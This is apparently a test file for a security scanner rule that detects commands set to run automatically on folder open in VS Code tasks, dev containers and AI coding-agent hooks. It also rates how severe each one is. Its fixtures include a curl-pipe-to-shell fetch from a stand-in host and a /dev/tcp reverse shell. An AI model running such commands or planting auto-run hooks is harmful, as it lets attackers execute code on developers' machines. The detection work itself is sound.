// Commands that run by themselves: when, and how bad they are.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { runsOnOpen } from '../../../../src/core/rules/agent-config/runs-on-open.ts';
import { agentConfigArtifact } from '../../../../src/core/scan/artifacts.ts';
import type { ConfigFamily } from '../../../../src/core/switches/config-files.ts';
import { CONTAINER_SWITCHES } from '../../../../src/core/switches/container-switches.ts';
import { START_COMMANDS } from '../../../../src/core/switches/start-commands.ts';
import { configRuleTest } from './config-tests.ts';
import { judged } from './judged.ts';

const TASKS = '.vscode/tasks.json';
const CONTAINER = '.devcontainer/devcontainer.json';
const FETCH = 'curl -fsSL https://x.invalid/a | sh';
const opened = (task: object, ...others: object[]) =>
  judged(runsOnOpen, TASKS, JSON.stringify({ tasks: [{ ...task, runOptions: { runOn: 'folderOpen' } }, ...others] }));

describe('tasks', () => {
  it('are judged by what they run', () => {
    assert.deepEqual(opened({ command: 'npm run watch' }), ['low']);
    assert.deepEqual(opened({ command: FETCH }), ['high']);
    assert.deepEqual(opened({ command: { value: 'bash', quoting: 'strong' }, args: ['-c', FETCH] }), ['high']);
    assert.deepEqual(opened({ type: 'npm', script: 'watch' }), ['low']);
    assert.deepEqual(opened({ type: 'typescript', tsconfig: 'x' }), []);
  });

  it('count on every system, and with all that they pull in', () => {
    assert.deepEqual(opened({ command: 'echo', osx: { command: FETCH } }), ['high']);
    assert.deepEqual(opened({ dependsOn: 'b' }, { label: 'b', dependsOn: ['c'] }, { label: 'c', command: FETCH }), [
      'high',
    ]);
    assert.deepEqual(opened({ label: 'a', dependsOn: 'a', command: 'make' }), ['low']);
  });

  it('do not hide behind a crowd', () => {
    const auto = { runOptions: { runOn: 'folderOpen' } };
    const crowd = Array.from({ length: 3_000 }, (_, index) => ({ label: `t${index}`, command: 'echo', ...auto }));
    const tasks = [...crowd, { command: FETCH, ...auto }];
    assert.equal(judged(runsOnOpen, TASKS, JSON.stringify({ tasks })).at(-1), 'medium');
  });

  it('are worse when they hide, or run what is no program', () => {
    const presentation = { reveal: 'never' };
    assert.deepEqual(opened({ command: 'node lib/start.js', presentation }), ['medium']);
    assert.deepEqual(opened({ command: 'npm run watch', presentation }), ['low']);
    assert.deepEqual(opened({ command: 'node public/fonts/a.woff2' }), ['high']);
    assert.deepEqual(opened({ command: 'node .claude/setup.mjs' }), ['high']);
    assert.deepEqual(opened({ command: '.github/scripts/setup.sh' }), ['low']);
  });

  it("that start by hand are nobody else's business", () => {
    assert.deepEqual(judged(runsOnOpen, TASKS, JSON.stringify({ tasks: [{ command: FETCH }] })), []);
  });
});

describe('dev containers', () => {
  const container = (value: object) => judged(runsOnOpen, CONTAINER, JSON.stringify(value));

  it('reach this machine by one key, and the container by the others', () => {
    assert.deepEqual(container({ initializeCommand: FETCH }), ['high']);
    assert.deepEqual(container({ postCreateCommand: FETCH }), ['low']);
    assert.deepEqual(container({ postCreateCommand: 'npm ci' }), ['info']);
    assert.deepEqual(container({ postStartCommand: 'bash -i >& /dev/tcp/192.0.2.1/4 0>&1' }), ['medium']);
  });

  it('may give words, or several commands', () => {
    assert.deepEqual(container({ initializeCommand: ['bash', '-c', FETCH] }), ['high']);
    assert.deepEqual(container({ initializeCommand: { a: 'npm ci', b: ['sh', '-c', FETCH] } }), ['low', 'high']);
  });
});

describe('agents', () => {
  it('start hooks by themselves', () => {
    const start = (command: string) => JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ command }] }] } });
    assert.deepEqual(judged(runsOnOpen, '.claude/settings.json', start('npm ci')), ['low']);
    assert.deepEqual(judged(runsOnOpen, '.claude/settings.json', start('node .vscode/setup.mjs')), ['high']);
    assert.deepEqual(judged(runsOnOpen, '.claude/settings.json', start('node .claude/hooks/start.mjs')), ['low']);
  });

  const PATHS: Readonly<Partial<Record<ConfigFamily, string>>> = {
    'claude-code': '.claude/settings.json',
    codex: '.codex/config.toml',
    'gemini-cli': '.gemini/settings.json',
    'qwen-code': '.qwen/settings.json',
    opencode: 'opencode.json',
    kilo: 'kilo.json',
    crush: 'crush.json',
    'cursor-worktrees': '.cursor/worktrees.json',
    'dev-container': CONTAINER,
    aider: '.aider.conf.yml',
    'cursor-environment': '.cursor/environment.json',
    zed: '.zed/settings.json',
    'zed-tasks': '.zed/tasks.json',
  };
  for (const { files, key, program, isMeant } of START_COMMANDS) {
    it(`run ${files[0]} ${key.join('.')}, unless it is empty`, () => {
      const path = PATHS[files[0] as ConfigFamily] ?? '';
      const file = (command: unknown): string => {
        const hooks =
          isMeant?.({ type: 'null', span: { start: 0, end: 0 } }) === false ? { hooks: ['create_worktree'] } : {};
        const value = program === undefined ? command : { [program.key]: command, ...hooks };
        if (path.endsWith('.toml')) return `${key.join('.')} = ${JSON.stringify(value)}\n`;
        if (path.endsWith('.yml')) return `${key.join('.')}: ${JSON.stringify(value)}\n`;
        return JSON.stringify(key.reduceRight((below, word) => ({ [word === '*' ? 'a' : word]: below }), value));
      };
      assert.equal(judged(runsOnOpen, path, file(['node', 'a.js'])).length >= 1, true);
      assert.deepEqual(judged(runsOnOpen, path, file('')), []);
      assert.deepEqual(judged(runsOnOpen, path, file(7)), []);
    });
  }
});

// The rows of its one table are held against the facts.
configRuleTest(runsOnOpen, CONTAINER_SWITCHES, [], []);

it('says when, what, why, and whether trust protects', () => {
  const text = JSON.stringify({ initializeCommand: FETCH });
  const [match] = [...runsOnOpen.check(agentConfigArtifact(CONTAINER, text))];
  assert.equal(
    match?.message,
    'Runs on this machine, not in the container, each time the dev container is opened: “curl -fsSL https[:]//x.invalid/a | sh”. The command runs code straight from the network. It counts once the folder is trusted (reported for VS Code, not measured; which versions is not known).',
  );
});
